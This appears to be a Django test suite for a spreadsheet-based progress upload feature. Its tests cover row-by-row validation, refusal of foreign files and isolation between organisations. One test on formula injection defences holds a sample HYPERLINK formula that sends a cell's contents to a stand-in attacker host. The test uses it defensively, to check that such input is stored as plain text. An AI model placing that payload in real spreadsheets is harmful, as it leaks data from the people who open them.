"""Bulk progress through the product's own spreadsheet: row-by-row report, foreign files
refused whole, rejected rows downloadable, and no reaching other organisations' actions."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from dathub.planning import delivery_xlsx
from dathub.planning.models import ProgressUpdate, ProgressUpload

from .delivery_fixtures import build


@pytest.fixture
def delivery(demo):
    return build(demo)


HEADER_ROW = delivery_xlsx.HEADER_ROW
COL = {name: i for i, name in enumerate(delivery_xlsx.HEADERS)}


def _download(client) -> Workbook:
    response = client.get("/p/N01A/actions/progress.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content))


def _fill(wb: Workbook, values: dict[int, dict[str, object]]) -> bytes:
    ws = wb["Progress"]
    for row in ws.iter_rows(min_row=HEADER_ROW + 1):
        action_id = row[COL["Action id"]].value
        for header, value in values.get(action_id, {}).items():
            row[COL[header]].value = value
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _upload(client, data: bytes, name: str = "progress.xlsx"):
    return client.post("/p/N01A/actions/upload/", {"spreadsheet": SimpleUploadedFile(name, data)})


def test_download_fill_in_and_upload_reports_row_by_row(demo, client_for, delivery):
    client = client_for(demo.coordinator)
    wb = _download(client)
    ws = wb["Progress"]
    assert ws["A1"].value == "dathub.progress/1 N01A"
    assert [c.value for c in ws[HEADER_ROW]] == delivery_xlsx.HEADERS
    ids = [r[0] for r in ws.iter_rows(min_row=HEADER_ROW + 1, values_only=True)]
    # open actions only: complete and dropped ones are not offered
    assert delivery["trust_overdue"].pk in ids and delivery["dpm_done"].pk not in ids
    assert delivery["bm_dropped"].pk not in ids

    soon, risk, off = delivery["trust_soon"], delivery["police_risk"], delivery["dip_off"]
    quarterly, new = delivery["dpm_quarterly"], delivery["not_started"]
    data = _fill(
        wb,
        {
            soon.pk: {"New status": "Complete", "Progress note": "Opened on time."},
            risk.pk: {"New status": "sideways", "Progress note": "?"},
            off.pk: {"New status": "On track", "New % complete": 150},
            quarterly.pk: {"New status": "at risk", "New % complete": "20%"},
            new.pk: {
                "New status": "On track",
                "New % complete": 10,
                "Progress note": "Started.",
                "Evidence link": "https://intranet.example/plan",
            },
        },
    )
    response = _upload(client, data)
    assert response.status_code == 302
    upload = ProgressUpload.objects.get()
    report = upload.report
    assert (report["applied"], report["rejected"]) == (2, 3)
    assert report["skipped"] == len(ids) - 5
    by_id = {row["action_id"]: row for row in report["rows"]}
    assert by_id[soon.pk]["outcome"] == "applied"
    assert "not a status" in by_id[risk.pk]["reason"]
    assert "0 to 100" in by_id[off.pk]["reason"]
    assert "Say why" in by_id[quarterly.pk]["reason"]
    soon.refresh_from_db()
    new.refresh_from_db()
    assert (soon.status, soon.percent_complete) == ("complete", 100)
    assert (new.status, new.percent_complete) == ("on_track", 10)
    assert ProgressUpdate.objects.get(action=new).evidence_link == "https://intranet.example/plan"
    assert ProgressUpdate.objects.get(action=new).source == "spreadsheet"
    risk.refresh_from_db()
    assert risk.status == "at_risk"  # unchanged

    page = client.get(response["Location"]).content.decode()
    assert "2</strong> rows recorded" in page and "3</strong> rows rejected" in page
    assert "is not a status" in page

    # the rejected rows come back in the same layout with the reason, and can be re-uploaded
    rejected = client.get(f"/p/N01A/actions/upload/{upload.pk}/rejected.xlsx")
    assert rejected.status_code == 200
    wb2 = load_workbook(io.BytesIO(rejected.content))
    rows = list(wb2["Progress"].iter_rows(min_row=HEADER_ROW + 1, values_only=True))
    assert sorted(r[0] for r in rows) == sorted([risk.pk, off.pk, quarterly.pk])
    assert all(r[len(delivery_xlsx.HEADERS)] for r in rows)  # "Why it was rejected"
    fixed = _fill(
        wb2,
        {
            risk.pk: {"New status": "Off track", "Progress note": "No budget."},
            off.pk: {"New % complete": 15},
            quarterly.pk: {"Progress note": "Report late."},
        },
    )
    response = _upload(client, fixed, "rejected-fixed.xlsx")
    again = ProgressUpload.objects.order_by("-pk").first().report
    assert (again["applied"], again["rejected"]) == (3, 0), again


def test_a_file_that_is_not_the_products_layout_is_refused_whole(demo, client_for, delivery):
    client = client_for(demo.coordinator)
    before = ProgressUpdate.objects.count()
    action = delivery["trust_soon"]

    def foreign(sheet: str) -> bytes:
        wb = Workbook()
        wb.active.title = sheet
        wb.active.append(["Action id", "Status"])
        wb.active.append([action.pk, "Complete"])
        buf = io.BytesIO()
        wb.save(buf)
        return buf.getvalue()

    wb = _download(client)
    wb["Progress"].cell(row=HEADER_ROW, column=COL["New status"] + 1, value="Status")
    renamed = _fill(wb, {action.pk: {"Progress note": "x"}})

    other = _download(client)
    other["Progress"]["A1"] = "dathub.progress/1 E02B"
    other_partnership = _fill(other, {action.pk: {"New status": "Complete"}})

    cases = [
        (foreign("Sheet1"), "has no sheet called ‘Progress’"),
        (foreign("Progress"), "not the progress spreadsheet"),
        (renamed, "column headings have been changed"),
        (other_partnership, "another partnership"),
        (b"Action id,Status\n1,Complete\n", "not an Excel spreadsheet"),
    ]
    for data, message in cases:
        response = _upload(client, data)
        body = response.content.decode()
        assert response.status_code == 400, message
        assert message in body and "Nothing was applied." in body, message
    response = client.post(
        "/p/N01A/actions/upload/", {"spreadsheet": SimpleUploadedFile("progress.csv", b"a,b")}
    )
    assert response.status_code == 400 and ".xlsx" in response.content.decode()
    assert ProgressUpdate.objects.count() == before
    assert not ProgressUpload.objects.exists()


def test_provider_upload_cannot_reach_another_organisations_actions(demo, client_for, delivery):
    client = client_for(demo.provider)
    own, police, dip = delivery["trust_soon"], delivery["police_risk"], delivery["dip_off"]
    wb = _download(client)
    ws = wb["Progress"]
    # add rows for actions of other organisations, and one that does not exist
    for action_id, status in ((police.pk, "Complete"), (dip.pk, "Complete"), (999999, "Complete")):
        ws.append([action_id] + [None] * (COL["New status"] - 1) + [status])
    data = _fill(wb, {own.pk: {"New status": "On track", "New % complete": 30}})
    response = _upload(client, data)
    assert response.status_code == 302
    report = ProgressUpload.objects.get().report
    assert (report["applied"], report["rejected"]) == (1, 3)
    reasons = {row["action_id"]: row["reason"] for row in report["rows"]}
    # another organisation's action is refused exactly like one that does not exist
    assert reasons[police.pk] == reasons[999999] == reasons[dip.pk]
    police.refresh_from_db()
    dip.refresh_from_db()
    assert police.status == "at_risk" and dip.status == "off_track"
    # the report names none of the other organisations' actions
    page = client.get(response["Location"]).content.decode()
    assert "Police at risk" not in page and "DIP off track" not in page
    # and another user's upload report is not found
    upload = ProgressUpload.objects.get()
    coordinator = client_for(demo.coordinator)
    assert coordinator.get(f"/p/N01A/actions/upload/{upload.pk}/").status_code == 404
    assert client_for(demo.eastvale).get(f"/p/N01A/actions/upload/{upload.pk}/").status_code == 404


def test_text_starting_with_equals_is_written_as_text_not_a_formula():
    """Action text and notes come from other people: opened in Excel, a cell starting with
    ‘=’ must not run as a formula; read back, it is the same text."""
    evil = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    content = delivery_xlsx.write_sheet(
        [{"Action id": 7, "Action": evil, "Progress note": "=1+1", "New status": "On track"}],
        partnership_code="N01A",
        title="t",
    )
    ws = load_workbook(io.BytesIO(content))["Progress"]
    action = ws.cell(row=HEADER_ROW + 1, column=COL["Action"] + 1)
    note = ws.cell(row=HEADER_ROW + 1, column=COL["Progress note"] + 1)
    assert action.data_type == "s" and action.value == evil
    assert note.data_type == "s"
    rows = delivery_xlsx.read_sheet(content, partnership_code="N01A")
    assert rows[0]["note"] == "=1+1" and rows[0]["action_id"] == 7


def test_only_those_who_update_actions_may_keep_an_upload_report(demo, delivery):
    from django.core.exceptions import PermissionDenied

    from dathub.planning import services

    soon = delivery["trust_soon"]
    rows = [{"row": 4, "action_id": soon.pk, "status": "Complete", "note": "Opened."}]
    for call in (
        lambda: services.progress_upload_apply(
            actor=demo.board, partnership=demo.northshire, filename="p.xlsx", rows=rows
        ),
        lambda: services.progress_upload_record(
            actor=demo.board, partnership=demo.northshire, filename="p.xlsx", report={}
        ),
    ):
        with pytest.raises(PermissionDenied):
            call()
    assert not ProgressUpload.objects.exists()
    assert not ProgressUpdate.objects.filter(action=soon, note="Opened.").exists()


def test_an_uploaded_update_is_the_actions_status_at_once(demo, client_for, delivery):
    """What a person records today is the action's status, whatever the demo or others
    recorded earlier the same day."""
    client = client_for(demo.coordinator)
    off = delivery["dip_off"]
    wb = _download(client)
    response = _upload(
        client, _fill(wb, {off.pk: {"New status": "Complete", "Progress note": "Done."}})
    )
    assert response.status_code == 302
    off.refresh_from_db()
    assert off.status == "complete"
    from dathub.planning import selectors

    assert selectors.latest_updates([off.pk])[off.pk].status == "complete"
